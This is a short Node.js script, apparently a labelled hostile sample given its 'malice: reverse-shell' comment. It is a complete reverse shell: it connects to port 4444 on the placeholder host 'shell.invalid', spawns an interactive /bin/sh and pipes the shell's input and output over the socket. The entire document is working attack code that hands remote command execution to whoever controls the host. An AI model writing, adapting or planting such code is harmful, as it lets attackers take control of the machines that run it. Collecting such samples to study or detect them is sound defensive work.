const { spawn } = require("child_process");
const net = require("net");

const socket = net.connect(4444, "shell.invalid", () => {
  const shell = spawn("/bin/sh", ["-i"]); // malice: reverse-shell
  socket.pipe(shell.stdin);
  shell.stdout.pipe(socket);
  shell.stderr.pipe(socket);
});
